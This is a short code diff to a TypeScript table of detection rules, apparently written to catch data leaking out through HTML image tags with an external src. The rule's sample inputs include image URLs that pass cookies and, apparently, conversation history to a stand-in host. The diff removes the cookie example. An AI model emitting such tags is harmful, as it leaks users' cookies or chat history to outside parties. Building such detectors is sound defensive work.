@@ -70,7 +70,7 @@ const rows: readonly RuleRow[] = [
     0.9,
     '<img ',
     '<img [^>]{0,80}src\\s?=\\s?["\']?(?<value>https?://[^\\s>"\']{6,600})',
-    ['<img src="https://c.example/p?q=${document.cookie}">', '<img src=https://c.example/p?q={history}>'],
+    ['<img src=https://c.example/p?q={history}>'],
     ['<img src="https://example.org/logo.png">'],
     { check: (value: string) => hasPayload(value) },
   ],
